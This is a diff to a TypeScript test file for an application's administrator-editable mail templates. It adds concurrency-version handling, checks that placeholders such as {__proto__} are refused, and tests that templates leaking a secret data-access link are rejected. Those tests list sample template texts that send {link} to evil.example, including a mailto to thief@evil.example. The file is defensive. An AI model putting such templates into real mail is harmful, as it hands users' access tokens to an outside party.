@@ -97,6 +97,8 @@ describe('The text of a mail', () => {
     readJson<MailTemplate[]>(await kit.call('GET', '/api/mail-templates', { actor: admin }));
   const find = async () => (await listTemplates()).find(({ name }) => name === 'data-link');
   const update = (body: object) => kit.call('PUT', path, { actor: admin, body });
+  /** The version counts on when the text of the release is back. */
+  const findVersion = async () => (await find())?.version;
 
   it('Administrators can change it, and return to the one of the release', async () => {
     expect(await find()).toMatchObject({ version: 0, subject: 'Your data at {site}' });
@@ -111,7 +113,7 @@ describe('The text of a mail', () => {
     expect(mail.text).toMatch(/^Hi,\n\nHere:\nhttps:\/\/doorstep\.example\/your-data\?token=[\w-]+\n\nYours, /);
 
     expect((await kit.call('DELETE', path, { actor: admin })).status).toBe(200);
-    expect(await find()).toMatchObject({ version: 0, subject: 'Your data at {site}' });
+    expect(await find()).toMatchObject({ version: 2, subject: 'Your data at {site}' });
     await vi.waitFor(async () => {
       const log = await kit.call('GET', '/api/audit-log?entity=mail-template', { actor: admin });
       expect((await readJson<AuditEntry[]>(log)).map(({ name, action }) => `${name} ${action}`)).toEqual([
@@ -122,7 +124,8 @@ describe('The text of a mail', () => {
   });
 
   it('One of two administrators who save at the same moment is refused', async () => {
-    const answers = await Promise.all(['One', 'Two'].map(subject => update({ ...draft, subject, version: 0 })));
+    const version = await findVersion();
+    const answers = await Promise.all(['One', 'Two'].map(subject => update({ ...draft, subject, version })));
     expect(answers.map(({ status }) => status).sort()).toEqual([200, 409]);
     await kit.call('DELETE', path, { actor: admin });
   });
@@ -143,7 +146,7 @@ describe('The text of a mail', () => {
       ['POST', `${path}/preview`],
       ['POST', `${path}/samples`],
     ] as const) {
-      const body = { ...draft, [field]: value, version: 0 };
+      const body = { ...draft, [field]: value, version: await findVersion() };
       const answer = await kit.call(method, address, { actor: admin, body });
       expect(answer.status).toBe(422);
       expect(await readJson(answer)).toMatchObject({ errors: [{ path: field, message: sentence }] });
@@ -168,6 +171,49 @@ describe('The text of a mail', () => {
     expect(await readJson(answer)).toEqual({ address: 'root@mail.example' });
     expect(await read(await mailTo('root@mail.example', 'data-link'))).toMatchObject({ subject: 'Your data' });
   });
+
+  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
+    'A template with {%s}, which no mail has a value for, is refused and never filled',
+    async name => {
+      for (const [field, odd] of [
+        ['text', { ...draft, text: `${draft.text} {${name}}` }],
+        ['subject', { ...draft, subject: `{${name}}` }],
+      ] as const)
+        for (const answer of [
+          await kit.call('POST', `${path}/preview`, { actor: admin, body: odd }),
+          await kit.call('POST', `${path}/samples`, { actor: admin, body: odd }),
+          await kit.call('PUT', path, { actor: admin, body: { ...odd, version: await findVersion() } }),
+        ])
+          expect([answer.status, await readJson(answer)]).toMatchObject([422, { errors: [{ path: field }] }]);
+      expect(fillMail({ variables: {} }, { subject: '', text: `{${name}}` }, {}).text).toBe(`{${name}}`);
+    },
+  );
+
+  it.each([
+    'https://evil.example/?t={link}',
+    '[Here](https://evil.example/?t={link})',
+    '[Here](mailto:thief@evil.example?body={link})',
+    '[Here](//evil.example/{link})',
+    'www.evil.example/{link}',
+    '[Here]({link}) and https://evil.example/#{link}',
+  ])('A template that sends the secret of a link elsewhere is refused: %s', async text => {
+    const answer = await kit.call('PUT', path, {
+      actor: admin,
+      body: { ...draft, text, version: await findVersion() },
+    });
+    expect([answer.status, await readJson(answer)]).toMatchObject([
+      422,
+      { errors: [{ path: 'text', message: expect.stringContaining('Please use {link} alone') }] },
+    ]);
+  });
+
+  it.each(['{link}', '<{link}>', 'Here:{link}', '[Here]({link})', 'See {link}, or https://doorstep.example/contact'])(
+    'A template with the link as an address of its own can be sent: %s',
+    async text => {
+      const answer = await kit.call('POST', `${path}/preview`, { actor: admin, body: { ...draft, text } });
+      expect(answer.status).toBe(200);
+    },
+  );
 
   it('Only administrators see mails and change their texts', async () => {
     const user = toActor(await kit.register('curious'));
